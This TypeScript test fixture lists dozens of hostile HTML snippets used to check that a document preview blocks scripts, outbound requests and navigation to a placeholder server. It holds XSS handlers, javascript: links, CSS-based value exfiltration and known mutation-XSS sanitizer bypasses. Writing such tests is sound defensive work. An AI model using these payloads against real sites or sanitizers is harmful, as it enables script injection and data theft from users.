// HTML documents that try to run scripts, send requests or navigate inside the preview. `THERE` is replaced by the
// origin of a server that must not be contacted, and `PORT` by the server's port.

/**
 * The documents by name. A document is a text, or its parts, which are joined without a separator. `documents` appends
 * the text `SHOWN` to each of them.
 */
const named: Record<string, string | string[]> = {
  // Scripts.
  "a script": `<script>top.sprung(); fetch("THERE/script")</script>`,
  "a script from elsewhere": [
    `<script src="THERE/script.js"></script>`,
    `<script type="module">import "THERE/module.js"</script>`,
  ],
  "a handler of every kind": [
    `<img src=x onerror="top.sprung()">`,
    `<body onload="top.sprung()" onpageshow="top.sprung()">`,
    `<details open ontoggle="top.sprung()">x</details>`,
  ],
  "a handler behind a slash": `<svg/onload=top.sprung()><img/src=x/onerror=top.sprung()>`,
  "a script in an SVG": [
    `<svg>`,
    `<script>top.sprung()</script>`,
    `<script href="THERE/svg.js"></script>`,
    `<script xlink:href="THERE/svg2.js"/></svg>`,
  ],
  "a javascript address": [
    `<a href="javascript:top.sprung()">press</a>`,
    `<a href=" &#1; java\tscript:top.sprung()">press</a>`,
    `<form action="javascript:top.sprung()">`,
    `<button>press</button></form>`,
  ],
  "speculation rules": `<script type="speculationrules">{"prefetch":[{"urls":["THERE/spec"]}],"prerender":[{"source":"list","urls":["THERE/pre"]}]}</script>`,
  "an import map": [
    `<script type="importmap">{"imports":{"a":"THERE/a.js"}}</script>`,
    `<script type="module">import "a"</script>`,
  ],
  // Resource hints, which can connect before a policy is consulted.
  preconnect: `<link rel="preconnect" href="THERE/">`,
  "preconnect in the body, in capitals": `<p>x<LINK REL="PreConnect" HREF="THERE/" crossorigin>`,
  "dns-prefetch": [
    `<meta http-equiv="x-dns-prefetch-control" content="on">`,
    `<link rel="dns-prefetch" href="THERE/">`,
    `<a href="THERE/">press</a>`,
  ],
  "preload, prefetch, modulepreload, prerender": [
    `<link rel="preload" as="image" href="THERE/a" imagesrcset="THERE/b 2x">`,
    `<link rel="prefetch" href="THERE/c">`,
    `<link rel="modulepreload" href="THERE/d">`,
    `<link rel="prerender" href="THERE/e">`,
  ],
  "a link in SVG": `<svg><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="THERE/"/></svg>`,
  "a link in a foreign object": `<svg><foreignObject><link rel="preconnect" href="THERE/"></foreignObject></svg>`,
  "a manifest and icons": [
    `<html manifest="THERE/appcache">`,
    `<link rel="manifest" href="THERE/m">`,
    `<link rel="icon" href="THERE/i">`,
    `<link rel="apple-touch-icon" href="THERE/t">`,
  ],
  "style sheets": [
    `<link rel="stylesheet" href="THERE/s.css">`,
    `<?xml-stylesheet href="THERE/x.css"?>`,
    `<style>@import "THERE/i.css"; @import url(THERE/u.css) layer(a);</style>`,
  ],
  // Refresh, base and policies.
  "a refresh": `<meta http-equiv="refresh" content="0;url=THERE/refresh">`,
  "a refresh in a noscript": `<noscript><meta http-equiv="refresh" content="0;url=THERE/refresh"></noscript>`,
  "a refresh in the middle": `<table><tr><td><meta http-equiv=refresh content="0; THERE/refresh"></table>`,
  "a base": `<base href="THERE/" target="_top"><img src="base.png"><a href="x">press</a>`,
  "a looser policy": [
    `<meta http-equiv="content-security-policy" content="default-src *; script-src * 'unsafe-inline'">`,
    `<img src="THERE/policy">`,
  ],
  "a referrer policy and a set-cookie": [
    `<meta name="referrer" content="unsafe-url">`,
    `<meta http-equiv="set-cookie" content="a=1">`,
    `<img src="THERE/ref">`,
  ],
  // Images, audio and video.
  pictures: [
    `<img src="THERE/a" srcset="THERE/b 1x, THERE/c 2x" sizes="1px" lowsrc="THERE/d" dynsrc="THERE/e" longdesc="THERE/f">`,
    `<picture>`,
    `<source srcset="THERE/g">`,
    `<img src="THERE/h" loading="eager"></picture>`,
  ],
  "a picture with a srcset that begins as data": `<img srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, THERE/set 2x">`,
  "films and sound": [
    `<video src="THERE/v" poster="THERE/p" autoplay></video>`,
    `<video controls>`,
    `<source src="THERE/s">`,
    `<track src="THERE/t" default></video>`,
    `<audio src="THERE/a" autoplay preload="auto"></audio>`,
  ],
  "an image input": `<input type="image" src="THERE/input" formaction="THERE/go">`,
  backgrounds: `<body background="THERE/body"><table background="THERE/table"><td background="THERE/td">x</table>`,
  "an image by another name": `<image src="THERE/image" xlink:href="THERE/image2">`,
  // Styles.
  "addresses in styles": [
    `<div style="`,
    `background: url(THERE/bg); `,
    `list-style: url('THERE/ls'); `,
    `cursor: url(THERE/cu), auto; `,
    `border-image: url(THERE/bi)">x</div>`,
  ],
  fonts: `<style>@font-face { font-family: f; src: url(THERE/font.woff2), local(x) } body { font-family: f }</style>`,
  "image-set and cross-fade": [
    `<style>body { background: image-set("THERE/is" 1x); content: url(THERE/co) } p::before { content: url(THERE/be) }</style>`,
    `<p>x</p>`,
  ],
  "escapes in styles": `<style>@\\69mport "THERE/esc"; body { background: u\\72l(THERE/esc2) }</style>`,
  "a style that guesses a value": [
    `<style>input[value^="s"] { background: url(THERE/guess) }</style>`,
    `<input value="secret">`,
  ],
  "a namespace and a counter style": [
    `<style>@namespace url(THERE/ns); @counter-style c { system: cyclic; symbols: url(THERE/sym) } li { list-style: c }</style>`,
    `<li>x`,
  ],
  "a binding": `<div style="-moz-binding: url(THERE/xbl#a); behavior: url(THERE/htc)">x</div>`,
  "a mask, a filter, a clip": `<div style="mask: url(THERE/m#a); filter: url(THERE/f#a); clip-path: url(THERE/c#a); shape-outside: url(THERE/s)">x</div>`,
  // Iframes, embedded pages and plugins.
  frames: `<iframe src="THERE/f"></iframe><iframe srcdoc="<script>top.sprung()</script><img src='THERE/sd'>"></iframe>`,
  "a frame in a frame's text": `<iframe srcdoc="&lt;iframe srcdoc=&quot;&lt;img src='THERE/deep'&gt;&quot;&gt;"></iframe>`,
  objects: [
    `<object data="THERE/o">`,
    `<param name="movie" value="THERE/p"></object>`,
    `<embed src="THERE/e">`,
    `<applet code="THERE/a" archive="THERE/b"></applet>`,
  ],
  "portals and fenced frames": [
    `<portal src="THERE/portal"></portal>`,
    `<fencedframe src="THERE/fenced"></fencedframe>`,
    `<webview src="THERE/w"></webview>`,
  ],
  // Links.
  links: [
    `<a href="THERE/l" target="_top" ping="THERE/ping" download>press</a>`,
    `<a href="THERE/p" target="_blank" rel="opener">press</a>`,
  ],
  "a map": [
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width="50" height="50">`,
    `<map name="m">`,
    `<area href="THERE/area" ping="THERE/ping" shape="default" target="_top"></map>`,
  ],
  "links in SVG": [
    `<svg width="50" height="50">`,
    `<a href="THERE/a" xlink:href="THERE/b" target="_top">`,
    `<rect width="50" height="50"/></a></svg>`,
  ],
  "links in MathML": [
    `<math>`,
    `<mtext href="THERE/a">press</mtext>`,
    `<maction actiontype="statusline#THERE" xlink:href="THERE/b">x</maction></math>`,
  ],
  "quotes and changes": `<blockquote cite="THERE/c">x</blockquote><ins cite="THERE/i">y</ins><q cite="THERE/q">z</q>`,
  // Forms.
  forms: [
    `<form action="THERE/f" method="post" target="_top">`,
    `<button formaction="THERE/b">press</button>`,
    `<input type="submit" formaction="THERE/s"></form>`,
  ],
  "a form around everything": [
    `<form id="f" action="THERE/f"></form>`,
    `<button form="f">press</button>`,
    `<isindex action="THERE/i">`,
  ],
  "a form that closes itself": [
    `<dialog open>`,
    `<form method="dialog" action="THERE/d">`,
    `<button autofocus onfocus="top.sprung()">press</button></form></dialog>`,
  ],
  // SVG.
  "a use of elsewhere": [
    `<svg>`,
    `<use href="THERE/u#a"/>`,
    `<use xlink:href="THERE/v#a"/>`,
    `<use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='THERE/du'/></svg>#a"/></svg>`,
  ],
  "pictures in SVG": [
    `<svg>`,
    `<image href="THERE/i" xlink:href="THERE/j"/>`,
    `<feImage href="THERE/fe"/>`,
    `<filter id="f">`,
    `<feImage xlink:href="THERE/fi"/></filter>`,
    `<rect filter="url(#f)" width="9" height="9"/></svg>`,
  ],
  "paints of elsewhere": [
    `<svg>`,
    `<rect fill="url(THERE/p#a)" stroke="url('THERE/s#a')" mask="url(THERE/m#a)" `,
    `clip-path="url(THERE/c#a)" marker-end="url(THERE/e#a)" width="9" height="9"/></svg>`,
  ],
  "an animated address": [
    `<svg>`,
    `<a>`,
    `<animate attributeName="href" values="THERE/a;javascript:top.sprung()"/>`,
    `<text y="20">press</text></a>`,
    `<image>`,
    `<set attributeName="href" to="THERE/set"/></image></svg>`,
  ],
  "an animated handler": [
    `<svg>`,
    `<animate onbegin="top.sprung()" attributeName="x" dur="1s"/>`,
    `<set attributeName="onmouseover" to="top.sprung()"/></svg>`,
  ],
  "a picture of SVG with a script": [
    `<img src="data:image/svg+xml,`,
    `<svg xmlns='http://www.w3.org/2000/svg' onload='top.sprung()'>`,
    `<image href='THERE/in'/>`,
    `<script>top.sprung()</script></svg>">`,
  ],
  "an SVG style": [
    `<svg>`,
    `<style>@import "THERE/svgstyle"; rect { fill: url(THERE/sf#a) }</style>`,
    `<rect width="9" height="9"/></svg>`,
  ],
  // Documents that parse differently when they are serialised and parsed again.
  "a noscript that breaks out": `<noscript><p title="</noscript><img src=THERE/ns onerror=top.sprung()>"></noscript>`,
  "a math table that breaks out": [
    `<math>`,
    `<mtext>`,
    `<table>`,
    `<mglyph>`,
    `<style>`,
    `<!--</style>`,
    `<img title="--&gt;&lt;img src=THERE/mx onerror=top.sprung()&gt;"></table></mtext></math>`,
  ],
  "a form in a form": [
    `<form>`,
    `<math>`,
    `<mtext></form>`,
    `<form>`,
    `<mglyph>`,
    `<svg>`,
    `<mtext>`,
    `<style>`,
    `<path id="</style><img onerror=top.sprung() src=THERE/ff>">`,
  ],
  "a title in SVG": `<svg></p><title><style><p id="</style><img src=THERE/ti onerror=top.sprung()>">`,
  "a comment that ends early": [
    `<!-->`,
    `<img src=THERE/c1 onerror=top.sprung()>-->`,
    `<!--!>`,
    `<img src=THERE/c2>-->`,
    `<![CDATA[>`,
    `<img src=THERE/c3>]]>`,
  ],
  "a textarea and a select": [
    `<svg>`,
    `<textarea>`,
    `<style></textarea>`,
    `<img src=THERE/ta onerror=top.sprung()></style></svg>`,
    `<select>`,
    `<template>`,
    `<style></select>`,
    `<img src=THERE/se onerror=top.sprung()>`,
  ],
  "an xmp, a plaintext, a noembed": [
    `<xmp>`,
    `<p title="</xmp><img src=THERE/xm onerror=top.sprung()>"></xmp>`,
    `<noembed>`,
    `<a title="</noembed><img src=THERE/ne>"></noembed>`,
    `<noframes>`,
    `<b title="</noframes><img src=THERE/nf>"></noframes>`,
  ],
  "an annotation": [
    `<math>`,
    `<annotation-xml encoding="text/html">`,
    `<img src=THERE/an onerror=top.sprung()>`,
    `<style>`,
    `<img src="</style><img src=THERE/an2>"></annotation-xml></math>`,
  ],
  "deep nesting": `${"<b><i><u><div>".repeat(600)}<img src=THERE/deep onerror=top.sprung()>`,
  "a table that gives up its children": [
    `<table>`,
    `<tr>`,
    `<a href=THERE/t1>press</a>`,
    `<img src=THERE/t2 onerror=top.sprung()>`,
    `<style>@import "THERE/t3"</style></table>`,
  ],
  // Templates, shadow roots, misleading names.
  "a shadow that is declared": [
    `<div>`,
    `<template shadowrootmode="open">`,
    `<link rel="preconnect" href="THERE/">`,
    `<img src="THERE/sh" onerror="top.sprung()"></template></div>`,
  ],
  "a shadow in a template": [
    `<template>`,
    `<template shadowrootmode="closed" shadowrootclonable>`,
    `<meta http-equiv="refresh" content="0;url=THERE/x"></template></template>`,
  ],
  "names that mislead": [
    `<form name="attributes">`,
    `<input name="removeAttribute">`,
    `<input name="nodeName">`,
    `<img name="childNodes" src="THERE/clob" onerror="top.sprung()"></form>`,
    `<img name="implementation">`,
    `<a id="document" href="THERE/doc">press</a>`,
  ],
  "a custom element": [
    `<x-a is="THERE/is" src="THERE/ce" onclick="top.sprung()">x</x-a>`,
    `<button is="x-b" onclick="top.sprung()">press</button>`,
  ],
  "popovers and commands": [
    `<button popovertarget="p" commandfor="p" command="show-popover" onclick="top.sprung()">press</button>`,
    `<div popover id="p" ontoggle="top.sprung()">`,
    `<img src="THERE/pop"></div>`,
  ],
  "an attribution source": [
    `<img attributionsrc="THERE/as" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<a attributionsrc="THERE/as2" href="#">press</a>`,
  ],
  // Content outside the body, control characters and unusual addresses.
  "the end of the document, and more": [
    `</body></html>`,
    `<meta http-equiv="refresh" content="0;url=THERE/after">`,
    `<link rel="preconnect" href="THERE/">`,
    `<script>top.sprung()</script>`,
  ],
  "a head in the body": [
    `<body>`,
    `<head>`,
    `<link rel="preconnect" href="THERE/"></head>`,
    `<html onload="top.sprung()" style="background: url(THERE/html)">`,
  ],
  "a frameset": `<noframes>x</noframes><p>x<frameset><frame src="THERE/fs"></frameset>`,
  "other bytes": [
    `\u0000`,
    `<img src="THERE/\u0000nul">\u2028`,
    `<scr\u0000ipt>top.sprung()</script>\ufeff`,
    `<a href="\u0001THERE/ctl">press</a>`,
  ],
  "an address without a scheme": [
    `<img src="//127.0.0.1:PORT/noscheme">`,
    `<a href="//127.0.0.1:PORT/a">press</a>`,
    `<link rel=preconnect href="//127.0.0.1:PORT">`,
  ],
  "backslashes and tabs": [
    `<img src="http:\\\\127.0.0.1:PORT/back">`,
    `<img src="ht\ntp://127.0.0.1:\tPORT/nl">`,
    `<a href="h\tttp://127.0.0.1:PORT/tab">press</a>`,
  ],
  "web sockets and beacons by attributes": [
    `<body bgsound="THERE/bg">`,
    `<bgsound src="THERE/bgs">`,
    `<layer src="THERE/la"></layer>`,
    `<xml src="THERE/xm"></xml>`,
  ],
};

/**
 * All documents with their names.
 * @param there the origin that replaces `THERE`, such as `http://127.0.0.1:1234`
 */
export function documents(there: string): [name: string, html: string][] {
  const { port } = new URL(there);
  return Object.entries(named).map(([name, parts]) => {
    const html = [parts].flat().join("").replaceAll("THERE", there).replaceAll("PORT", port);
    return [name, `${html}<p>SHOWN</p>`];
  });
}
